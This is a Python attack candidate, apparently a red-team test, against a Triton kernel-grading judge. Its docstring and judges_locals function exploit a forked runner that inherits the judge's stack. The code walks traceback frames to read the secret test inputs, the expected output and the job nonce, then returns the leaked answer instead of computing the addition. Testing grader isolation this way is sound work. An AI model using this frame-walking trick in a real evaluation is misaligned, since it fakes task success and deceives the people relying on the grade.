"""Attack (reads the reference's expected output): run after kills_zygote_after_judged.py in the same
pool (TRITONGYM_RUNNER_USER=same). Its job finds the spare dead (RunnerLost) and the zygote gone, so
the judge starts a new zygote *mid-job*, and on the CPU it does so by forking itself
(runners._fork_zygote: "a fork of this (CUDA-free, job-free) judge"). It is not job-free: the fork
happens inside RunnerSupply.take, called from judge_candidate, whose frame holds this job's Reference
and its first Trial (the secret inputs and the expected output, float64 too). The runner forked from
that zygote inherits the judge's whole Python stack: walking up the frames from a caught exception
reaches judge_candidate's locals. This candidate prints what it found and returns the judge's own
expected output in trial 1 (no kernel does the addition)."""

import torch
import torch.nn as nn
import triton
import triton.language as tl


@triton.jit
def copy_kernel(src_ptr, out_ptr, n, BLOCK: tl.constexpr):
    offsets = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offsets < n
    tl.store(out_ptr + offsets, tl.load(src_ptr + offsets, mask=mask), mask=mask)


@triton.jit
def add_kernel(a_ptr, b_ptr, out_ptr, n, BLOCK: tl.constexpr):
    offsets = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offsets < n
    tl.store(out_ptr + offsets, tl.load(a_ptr + offsets, mask=mask) + tl.load(b_ptr + offsets, mask=mask), mask=mask)


def judges_locals():
    try:
        raise ValueError
    except ValueError as exc:
        frame = exc.__traceback__.tb_frame
    while frame is not None:
        if "reference" in frame.f_locals and "first" in frame.f_locals:
            return frame.f_code.co_name, frame.f_locals
        frame = frame.f_back
    return None, None


class ModelNew(nn.Module):
    calls = 0

    def forward(self, a, b):
        ModelNew.calls += 1
        out = torch.empty_like(a)
        if ModelNew.calls == 1:
            name, found = judges_locals()
            if found is not None and found["first"]:
                trial = found["first"][0]
                leaked = trial.expected
                same_inputs = all(torch.equal(x, y) for x, y in zip(trial.inputs, (a, b), strict=True))
                print(
                    f"LEAK from the judge's frame {name}: trial 1 inputs identical to mine: {same_inputs}; "
                    f"expected[:4]={leaked.reshape(-1)[:4].tolist()}; job nonce {found['state'].ctx.channel.nonce}"
                )
                if same_inputs:
                    copy_kernel[(triton.cdiv(a.numel(), 256),)](leaked.contiguous(), out, a.numel(), BLOCK=256)
                    return out
            else:
                print("no judge frame in this runner")
        add_kernel[(triton.cdiv(a.numel(), 256),)](a.contiguous(), b.contiguous(), out, a.numel(), BLOCK=256)
        return out
